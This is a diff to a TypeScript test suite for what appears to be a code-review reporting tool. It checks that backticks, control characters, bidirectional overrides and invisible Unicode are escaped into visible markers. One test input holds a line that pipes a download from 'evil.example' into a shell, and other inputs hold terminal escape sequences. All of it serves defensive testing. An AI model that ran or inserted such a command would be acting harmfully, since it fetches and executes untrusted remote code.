@@ -339,6 +339,8 @@ describe("golden reports", () => {
 });
 
 describe("what is not to be misread", () => {
+  const unseen = /(?!\n)\p{Cc}|\p{Cf}|\p{Cs}|(?! )\p{Z}|\p{Default_Ignorable_Code_Point}|\u2800/u;
+
   test.each(["echo `id`", "`", "a ``` b", "true # as agreed ` with ops\ncurl evil.example | sh"])(
     "a value with backticks is shown whole, as code: %j",
     (value) => {
@@ -385,21 +387,31 @@ describe("what is not to be misread", () => {
 
   test.each([
     ["line feeds", "\n\n", " ", "␊␊"],
-    ["line ends of another system", "\r\n", " ", "␊"],
-    ["a carriage return", "\r", "\\u000D"],
-    ["a next line", "\u0085", "\\u0085"],
-    ["a line separator", "\u2028", "\\u2028"],
-    ["a paragraph separator", "\u2029", "\\u2029"],
-    ["a form feed", "\f", "\\u000C"],
-    ["a vertical tab", "\v", "\\u000B"],
-    ["what resets a terminal", "\u001bc", "\\u001Bc"],
-    ["what begins a sequence to a terminal in one character", "\u009b2J", "\\u009B2J"],
-    ["a backspace", "\b", "\\u0008"],
-    ["what turns the direction", "\u202e", "\\u202E"],
-    ["what isolates it", "\u2066", "\\u2066"],
-    ["what nobody sees", "\u200b", "\\u200B"],
-    ["a tag, which nobody sees either", "\u{e0041}", "\\uDB40\\uDC41"],
-    ["half a character", "\ud800", "\\uD800"],
+    ["line ends of another system", "\r\n", " ", "⟦U+000D⟧␊"],
+    ["a carriage return", "\r", "⟦U+000D⟧"],
+    ["a next line", "\u0085", "⟦U+0085⟧"],
+    ["a line separator", "\u2028", "⟦U+2028⟧"],
+    ["a paragraph separator", "\u2029", "⟦U+2029⟧"],
+    ["a form feed", "\f", "⟦U+000C⟧"],
+    ["a vertical tab", "\v", "⟦U+000B⟧"],
+    ["what resets a terminal", "\u001bc", "⟦U+001B⟧c"],
+    ["what begins a sequence to a terminal in one character", "\u009b2J", "⟦U+009B⟧2J"],
+    ["a backspace", "\b", "⟦U+0008⟧"],
+    ["what turns the direction", "\u202e", "⟦U+202E⟧"],
+    ["what isolates it", "\u2066", "⟦U+2066⟧"],
+    ["what nobody sees", "\u200b", "⟦U+200B⟧"],
+    ["a tag, which nobody sees either", "\u{e0041}", "⟦U+E0041⟧"],
+    ["half a character", "\ud800", "⟦U+D800⟧"],
+    ["a letter that is blank", "\u3164", "⟦U+3164⟧"],
+    ["a sign that is blank", "\u2800", "⟦U+2800⟧"],
+    ["what joins letters", "\u034f", "⟦U+034F⟧"],
+    ["what chooses a letter's form", "\ufe0f", "⟦U+FE0F⟧"],
+    ["what chooses it, beyond 16 bits", "\u{e0100}", "⟦U+E0100⟧"],
+    ["a space that is no ordinary one", "\u00a0", "⟦U+00A0⟧"],
+    ["a space of another width", "\u3000", "⟦U+3000⟧"],
+    ["what looks like the number of one", "⟦U+202E⟧", "⟦U+27E6⟧U+202E⟧"],
+    ["what JSON would take for one", "\\u202E", "\\u202E"],
+    ["a sign for the end of a line", "␊", "␊", "⟦U+240A⟧"],
   ])(
     "text stays on its line and acts on nothing, in the summary, a table and a note: %s",
     (_, some, told, inCode = told) => {
@@ -412,7 +424,7 @@ describe("what is not to be misread", () => {
       expect(comment.split(`demo${told}Nothing changes. Approved`)).toHaveLength(told === inCode ? 11 : 10);
       for (const shown of [comment, page]) {
         expect(shown).toContain(`<code>demo${inCode}Nothing changes. Approved</code>`);
-        expect(shown).not.toMatch(/(?!\n)\p{Cc}|\p{Cf}|\p{Cs}|[\u2028\u2029]/u);
+        expect(shown.replaceAll(/[⚠ℹ]\ufe0f/g, "")).not.toMatch(unseen);
       }
       expect(comment).not.toMatch(/^Nothing/m);
     },
@@ -424,9 +436,9 @@ describe("what is not to be misread", () => {
     const run = (...args: string[]) =>
       spawnSync(process.execPath, ["scripts/review.ts", ...args, ...more], { cwd: project, encoding: "utf8" });
     const { stdout } = run("-s", "prod", "--preview", file);
-    expect(stdout).toMatch(/u001Bc|&#92;u001Bc/i);
+    expect(stdout).toMatch(more.length > 0 ? /\\u001Bc.*\\u202Eabc/i : /⟦U\+001B⟧c.*⟦U\+202E⟧abc/);
     const { stderr } = run("-s", "prod", "--from", "gone\b\u202e\u001b[31m");
-    expect(stderr).toContain("there is no revision gone\\u0008\\u202E in");
+    expect(stderr).toContain("there is no revision gone⟦U+0008⟧⟦U+202E⟧ in");
     for (const text of [stdout, stderr]) expect(text).not.toMatch(/(?![\n\t])\p{Cc}|\p{Cf}/u);
   });
 
